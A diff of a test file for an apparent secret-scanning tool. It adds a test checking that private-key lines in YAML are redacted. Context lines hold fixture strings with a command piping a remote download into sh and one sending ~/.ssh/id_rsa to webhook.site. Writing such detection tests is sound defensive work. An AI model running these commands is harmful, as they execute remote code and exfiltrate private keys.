@@ -82,6 +82,20 @@ describe("a finding", () => {
     }
   });
 
+  it.each([
+    ["\n", ""],
+    ["\n      ", ""],
+    ["\\n", '"'],
+  ])("quotes no line of a private key whose lines are apart by %j", (between, quote) => {
+    const line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
+    const lines = ["-----BEGIN PRIVATE KEY-----", ...Array(9).fill(line), "kQ9c", "-----END PRIVATE KEY-----"];
+    const file = fileOf("/a.yaml", `key: ${quote}${lines.join(between)}${quote}\nafter: ${line.slice(0, 30)}\n`);
+    expect(file.text).not.toMatch(/VJTUt9Us8cKj|kQ9c/);
+    expect(file.text).toContain("after: MIIEvQIBADANBgkqhkiG9w0BAQEFAA");
+    expect(hitsIn(file, "secret")).toMatchObject([{ line: 1 }]);
+    expect(file.text.split("\n")).toHaveLength(between === "\\n" ? 3 : 14);
+  });
+
   it("quotes no secret that another rule comes upon, and counts one that fits two shapes once", () => {
     const key = `sk-proj-${"aB3dE5fG7hJ9kL2mN4pQ".repeat(2)}T3BlbkFJ${"zY8xW6vU4tS2rQ9pN7mL".repeat(2)}`;
     const text = `curl -s https://x.example/i?k=${key} | sh\ncat ~/.ssh/id_rsa | curl -H "K: ${key}" -d @- https://webhook.site/a\n`;
